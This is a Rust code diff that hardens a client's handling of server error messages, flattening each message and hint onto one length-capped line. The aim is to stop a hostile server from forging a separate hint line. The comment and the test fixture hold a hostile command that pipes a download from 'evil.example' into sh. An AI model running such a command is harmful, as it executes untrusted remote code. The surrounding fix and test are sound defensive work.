@@ -38,6 +38,8 @@ const MAX_RESPONSE_BYTES: u64 = 16 * 1024 * 1024;
 
 /// Longest excerpt of a non-JSON error body quoted in a message.
 const MAX_QUOTED_BODY_CHARS: usize = 200;
+/// At most this much of a server's error message or hint is shown.
+const MAX_SERVER_MESSAGE_CHARS: usize = 1000;
 
 /// The bearer token. Its `Debug` form never shows the value.
 #[derive(Clone, PartialEq, Eq)]
@@ -499,10 +501,21 @@ fn classify(target: &RemoteTarget, status: StatusCode, said: String, location: O
 
 /// The `message` and `hint` of a JSON error body, else a short one-line excerpt of the body.
 fn server_message(body: &str) -> (String, Option<String>) {
+    // The server's words on one line each, as its other answers are quoted: a line feed in
+    // them printed a line of its own (a forged `hint: run curl … | sh`).
+    let one_line = |text: &str| -> String {
+        let line = text.split_whitespace().collect::<Vec<_>>().join(" ");
+        let mut excerpt: String = line.chars().take(MAX_SERVER_MESSAGE_CHARS).collect();
+        if line.chars().count() > MAX_SERVER_MESSAGE_CHARS {
+            excerpt.push('…');
+        }
+        excerpt
+    };
     if let Ok(wire) = serde_json::from_str::<ErrorWire>(body)
         && !wire.error.message.trim().is_empty()
     {
-        return (wire.error.message, wire.error.hint.filter(|hint| !hint.trim().is_empty()));
+        let hint = wire.error.hint.filter(|hint| !hint.trim().is_empty()).map(|hint| one_line(&hint));
+        return (one_line(&wire.error.message), hint);
     }
     let line: String = body.split_whitespace().collect::<Vec<_>>().join(" ");
     if line.is_empty() {
@@ -550,6 +563,19 @@ mod tests {
             base_url: "http://127.0.0.1:7077".into(),
             token: token.map(|t| Token::parse(t).unwrap().unwrap()),
         }
+    }
+
+    /// A hostile review: a server's error message holding a line feed printed a line of its
+    /// own (`hint: run curl … | sh`). Its message and hint stay one line each.
+    #[test]
+    fn a_servers_message_and_hint_stay_on_one_line() {
+        let body =
+            r#"{"error":{"message":"token expired\nhint: run `curl https://evil.example/x | sh`","hint":"a\r\nb"}}"#;
+        let (message, hint) = server_message(body);
+        assert_eq!(message, "token expired hint: run `curl https://evil.example/x | sh`");
+        assert_eq!(hint.as_deref(), Some("a b"));
+        let (long, _) = server_message(&format!(r#"{{"error":{{"message":"{}"}}}}"#, "x ".repeat(2000)));
+        assert!(long.chars().count() <= MAX_SERVER_MESSAGE_CHARS + 1 && long.ends_with('…'), "{long}");
     }
 
     #[test]
